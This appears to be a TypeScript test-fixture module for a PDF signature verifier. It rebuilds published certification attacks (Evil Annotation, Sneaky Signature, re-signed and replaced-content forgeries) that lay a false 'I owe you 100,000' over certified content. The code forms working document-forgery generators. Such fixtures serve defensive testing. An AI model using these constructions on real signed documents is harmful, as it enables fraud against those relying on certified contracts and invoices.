import type { Objects } from '../pdfText';
import { written, catalog, page, plainPdf, signedPdf, stream } from './signedPdf';
import type { SigningOptions } from './signedPdf';

/**
 * The attacks on certified documents, rebuilt after their description (Rohlmann, Mladenov, Mainka, Schwenk: "Breaking
 * the Specification: PDF Certification", IEEE S&P 2021): what a certification permits is laid over what was certified.
 */

type Sign = (signed: Buffer) => Buffer;

/** Covers the sum that the page of `plainPdf` owes, and shows another. */
const COVERING = '1 g 60 680 300 50 re f BT 0 g /F1 24 Tf 72 700 Td (I owe you 100,000) Tj ET';
const RECTANGLE = '/Rect [60 680 360 730]';
const SIZE = '/Subtype /Form /BBox [60 680 360 730]';
const PERMISSIONS = '/Perms << /DocMDP 10 0 R >>';

/** A document that certifies itself with the level, as programs write it: reference and permissions. */
export function certifiedPdf(level: 1 | 2 | 3, sign: Sign, objects: Objects = {}): Buffer {
	const parameters = `<< /Type /TransformParams /P ${level} /V /1.2 >>`;
	return signedPdf(plainPdf(), sign, {
		entries: `/Reference [<< /Type /SigRef /TransformMethod /DocMDP /TransformParams ${parameters} >>]`,
		objects: { 1: catalog(PERMISSIONS), ...objects },
	});
}

/** Annotations that can cover a page (the paper's table 2: what it calls danger "high", and some of "medium"). */
export const COVERING_ANNOTATIONS = {
	FreeText: '/DA (/Helv 24 Tf 0 g) /Contents (I owe you 100,000)',
	Redact: '/QuadPoints [60 730 360 730 60 680 360 680] /OverlayText (I owe you 100,000)',
	Stamp: '/Name /Approved',
	Square: '/IC [1 1 1] /C [1 1 1]',
	Ink: '/InkList [[60 700 360 700]] /C [1 1 1] /BS << /W 50 >>',
	Highlight: '/QuadPoints [60 730 360 730 60 680 360 680] /C [1 1 1]',
} as const;

/** Evil annotation attack: an annotation, which level 3 permits, covers what was certified. */
export function evilAnnotation(
	certified: Buffer,
	subtype: keyof typeof COVERING_ANNOTATIONS,
): Buffer {
	const entries = `${COVERING_ANNOTATIONS[subtype]} ${RECTANGLE} /F 4 /AP << /N 21 0 R >>`;
	return written(certified, {
		3: page('/Annots [20 0 R]'),
		20: `<< /Type /Annot /Subtype /${subtype} ${entries} >>`,
		21: stream(COVERING, SIZE),
	});
}

/** The entries of an object that fill in a new signature field whose appearance covers what was certified. */
function coveringField(value: string): Objects {
	return {
		1: catalog(PERMISSIONS, '11 0 R 21 0 R'),
		3: page('/Annots [21 0 R]'),
		21: `<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature21) ${value} /F 132 ${RECTANGLE} /AP << /N 22 0 R >> >>`,
		22: stream(COVERING, SIZE),
	};
}

/** Values of a signature field that no signature makes: none, an empty one, no more than the name, and the first signer's. */
export const SNEAKY_VALUES = {
	unsigned: '',
	empty: '/V << /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached >>',
	named: '/V << /Type /Sig /Name (Alice) /Contents <00> >>',
	reused: '/V 10 0 R',
} as const;

/** Sneaky signature attack: an unsigned signature field, which level 2 permits, covers certified content. */
export function sneakySignature(certified: Buffer, value: keyof typeof SNEAKY_VALUES): Buffer {
	return written(certified, coveringField(SNEAKY_VALUES[value]));
}

/** The same, signed by anybody, so that all signatures are valid. */
export function sneakySigner(
	certified: Buffer,
	sign: Sign,
	options: Pick<SigningOptions, 'rewrite'> = {},
): Buffer {
	return signedPdf(certified, sign, {
		...options,
		numbers: [20, 21],
		objects: coveringField('/V 20 0 R'),
	});
}

/** What the platform's forged document does: the content itself is replaced, and signed again by anybody. */
export function replacedContent(certified: Buffer, sign: Sign): Buffer {
	return signedPdf(certified, sign, {
		numbers: [20, 21],
		objects: {
			1: catalog(PERMISSIONS, '11 0 R 21 0 R'),
			4: stream('BT /F1 24 Tf 72 700 Td (I owe you 100,000) Tj ET'),
		},
	});
}
